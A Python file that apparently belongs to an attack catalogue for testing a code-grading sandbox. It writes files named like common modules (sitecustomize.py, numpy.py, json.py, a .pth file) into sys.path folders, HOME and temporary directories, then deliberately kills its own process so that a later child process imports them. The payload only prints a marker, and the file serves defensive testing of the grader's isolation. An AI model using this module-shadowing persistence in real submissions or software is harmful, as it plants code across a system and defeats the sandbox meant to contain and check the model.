"""Hostile submission (gradverify attack catalogue): leave code where a later child would import it, then crash.

Files named like modules a child imports (numpy.py, sitecustomize.py, codec.py, ...) are
written into every folder on sys.path, the working folder, HOME and the shared temporary
folders; the first call then kills its own process so that the grader starts a fresh child.
"""

import os
import sys

import numpy as np

POISON = "print('POISON planted by gvattack')\n"
NAMES = ("sitecustomize.py", "usercustomize.py", "numpy.py", "codec.py", "worker.py", "json.py", "gvattack_poison.pth")
FOLDERS = set(sys.path) | {os.getcwd(), os.path.expanduser("~"), "/tmp", "/var/tmp", "/dev/shm", "/sandbox/runtime",
                           "/sandbox/code", os.path.dirname(os.path.dirname(np.__file__))}
MARK = "/tmp/gvattack-poison-crashed"

if os.environ.get("GVATTACK_POISON") or any(os.path.exists(os.path.join(f, "gvattack_poison.pth")) for f in FOLDERS if f):
    print("persisted: this child sees the poison of an earlier one")

for folder in sorted(f for f in FOLDERS if f):
    for name in NAMES:
        path = os.path.join(folder, name)
        if os.path.exists(path):
            continue
        try:
            with open(path, "x") as handle:
                handle.write(POISON if name.endswith(".py") else "import os; os.environ['GVATTACK_POISON'] = '1'\n")
            if folder.startswith(("/sandbox", sys.prefix, sys.base_prefix)):
                print("ATTACK-SUCCEEDED: planted", path)
        except OSError:
            pass


def loss(name, y_pred, y_true):
    if not os.path.exists(MARK):
        try:
            open(MARK, "x").close()
        except OSError:
            pass
        os._exit(3)  # a fresh child must be started; will it see the poison?
    return float(np.mean((y_pred - y_true) ** 2))


def loss_backward(name, y_pred, y_true):
    return 2.0 * (y_pred - y_true) / y_pred.size
